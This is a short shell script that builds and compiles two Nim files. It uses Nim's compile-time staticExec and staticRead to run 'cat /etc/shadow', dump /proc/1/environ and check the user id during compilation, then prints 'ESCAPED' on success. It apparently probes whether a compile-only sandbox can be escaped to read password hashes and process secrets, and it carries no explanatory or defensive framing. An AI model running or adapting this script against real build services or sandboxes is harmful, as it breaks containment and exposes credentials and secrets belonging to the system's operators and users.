cat > a.nim <<'END'
static:
  echo staticExec("cat /etc/shadow && echo ESCAPED; cat /proc/1/environ && echo ESCAPED; echo nim ran inside")
const x = staticExec("id -u")
echo x
END
nim c --nimcache:/tmp/n --verbosity:0 --hints:off a.nim
echo 'const y = staticRead("/etc/shadow")' > b.nim
nim c --nimcache:/tmp/m --verbosity:0 --hints:off b.nim 2>/dev/null && echo ESCAPED
echo done
